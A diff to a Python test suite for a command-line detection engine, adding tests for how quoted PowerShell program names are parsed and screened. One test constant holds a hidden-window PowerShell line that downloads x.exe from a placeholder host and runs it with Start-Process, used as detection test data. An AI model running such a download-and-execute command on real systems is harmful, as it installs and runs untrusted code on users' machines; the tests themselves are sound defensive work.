@@ -17,7 +17,12 @@ from hypothesis import strategies as st
 from app.detection import Engine, Level
 from app.detection.interpret.budget import Budget
 from app.detection.interpret.facts import Facts
-from app.detection.interpret.grammar import argv_quotes, parse, screen_argv_quotes
+from app.detection.interpret.grammar import (
+    argv_quotes,
+    parse,
+    quoted_programs,
+    screen_argv_quotes,
+)
 from app.detection.interpret.powershell import interpret_powershell
 
 TEMP = "C:\\Users\\user\\AppData\\Local\\Temp"
@@ -86,7 +91,45 @@ def test_every_spelling_of_command_and_of_the_program_is_screened() -> None:
         assert len(argv_quotes(line)) == 2, line
 
 
-HOSTILE = ["powershell ", "-c ", '"', '\\"', "\\\\", "\\", " ", "\n", "$p", "`", "'", "x", "-com "]
+QUOTED = "\"PowerShell.exe\" -w h -nop -c \"(New-Object Net.WebClient).DownloadFile('https://a.example.test/x','x.exe'); Start-Process x.exe\""
+
+
+def test_a_quoted_powershell_at_a_lines_start_is_read_as_the_command_it_starts() -> None:
+    data = QUOTED.encode()
+    assert quoted_programs(data) == [0, 15]
+    screened = screen_argv_quotes(data, [], quoted_programs(data))
+    assert screened.startswith(b" PowerShell.exe  -w h") and len(screened) == len(data)
+    parsed = parse("powershell", QUOTED, ms=1000)
+    assert parsed is not None and not parsed[0].root_node.has_error and parsed[1] == data
+    facts = read(QUOTED)
+    # the program with its arguments, then the code after -c, read as its own (the grammar's
+    # error recovery read the code's statements as the line's own, with a quote in an argument)
+    assert [(i.name, i.args[-1]) for i in facts.invocations] == [
+        ("powershell", facts.layers[0]),
+        ("new-object", "Net.WebClient"),
+        ("start-process", "x.exe"),
+    ]
+    assert "DownloadFile" in facts.layers[0]
+    # the reading is the unquoted line's
+    assert read(QUOTED.replace('"PowerShell.exe"', "PowerShell.exe", 1)).layers == facts.layers
+
+
+def test_a_quoted_program_is_screened_only_where_a_line_starts_it() -> None:
+    assert (
+        quoted_programs(b'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\pwsh.exe" -c "x"') != []
+    )
+    assert quoted_programs(b' "pwsh" -c x\n"powershell.exe"\t-c y') == [1, 6, 13, 28]
+    # a path with a blank would read as another program once unquoted: left as written
+    assert quoted_programs(b'"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -c "x"') == []
+    assert quoted_programs(b'echo "powershell" -c x') == []  # an argument, not the program
+    assert quoted_programs(b'"powershell.exe"') == []  # nothing after it
+    assert quoted_programs(b'"notpowershell.exe" -c x') == []
+
+
+HOSTILE = [
+    "powershell ", "-c ", '"', '\\"', "\\\\", "\\", " ", "\n", "$p", "`", "'", "x", "-com ",
+    '"powershell" ', '"pwsh.exe" ',
+]  # fmt: skip
 
 
 @settings(max_examples=300, deadline=None)
@@ -95,7 +138,9 @@ def test_screening_changes_only_backslashes_before_quotes_and_never_raises(text:
     data = text.encode()
     found = argv_quotes(data)
     assert all(data[i : i + 2] == b'\\"' for i in found)
-    assert len(screen_argv_quotes(data, found)) == len(data)
+    programs = quoted_programs(data)
+    assert all(data[at : at + 1] == b'"' for at in programs)
+    assert len(screen_argv_quotes(data, found, programs)) == len(data)
     parsed = parse("powershell", text, ms=1000)
     assert parsed is not None and parsed[1] == data
     reading = interpret_powershell(text, Facts(), Budget(ms=10_000, strict=True))
